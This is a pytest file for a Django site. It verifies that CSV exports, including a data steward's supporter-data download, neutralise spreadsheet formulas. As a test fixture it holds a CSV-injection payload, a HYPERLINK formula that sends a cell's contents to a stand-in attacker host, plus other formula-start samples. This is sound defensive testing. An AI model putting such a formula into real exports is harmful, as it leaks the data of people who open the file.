"""Issue 12, hole 11: every CSV the site produces neutralises spreadsheet formulas through one
helper (core/spreadsheet.py): the steward's "Supporter data" export, as a Data steward gets it."""

import csv
import io

import pytest

from core.spreadsheet import neutralise_formula
from tests.factories import DataStewardFactory, LetterFactory
from tests.support.accounts import verified_login

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_becomes_text(start):
    assert neutralise_formula(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Ada", "O'Hara", "a=b", 42, -3, None])
def test_ordinary_cells_are_unchanged(value):
    assert neutralise_formula(value) == value


def test_the_supporter_data_csv_carries_no_formula(client, letter_campaign, mp):
    formulas = {"first_name": FORMULA, "last_name": "+1-555-0100", "city": "@SUM(A1:A9)"}
    LetterFactory(
        campaign=letter_campaign, mp=mp, email="formula@example.org", body="-2+3", **formulas
    )
    verified_login(client, DataStewardFactory())
    response = client.post(
        "/admin/supporter-data/", {"email": "formula@example.org", "file_format": "csv"}
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    table = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in table for cell in row]
    assert all("'" + value in cells for value in formulas.values()), cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
